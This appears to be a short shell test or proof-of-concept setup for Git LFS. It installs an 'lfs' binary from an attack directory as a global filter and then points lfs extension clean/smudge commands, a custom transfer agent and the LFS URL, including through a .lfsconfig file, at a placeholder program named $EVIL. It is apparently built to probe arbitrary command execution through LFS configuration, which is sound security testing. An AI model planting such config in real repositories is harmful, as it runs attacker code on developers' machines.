cp "$ATTACK/lfs" "$BASE/lfs"
chmod +x "$BASE/lfs"
git config --global filter.lfs.clean "$BASE/lfs clean %f"
git config --global filter.lfs.smudge "$BASE/lfs smudge %f"
git config --global filter.lfs.required true
echo "*.bin filter=lfs" >.gitattributes
echo one >a.bin
git add .
git commit -qm a
git config lfs.extension.x.clean "$EVIL"
git config lfs.extension.x.smudge "$EVIL"
git config lfs.extension.x.priority 0
git config lfs.customtransfer.t.path "$EVIL"
git config lfs.standalonetransferagent t
git config lfs.http://127.0.0.1/x.standalonetransferagent t
git config lfs.url "$URL"
git config -f .lfsconfig lfs.url "$URL"
echo two >a.bin
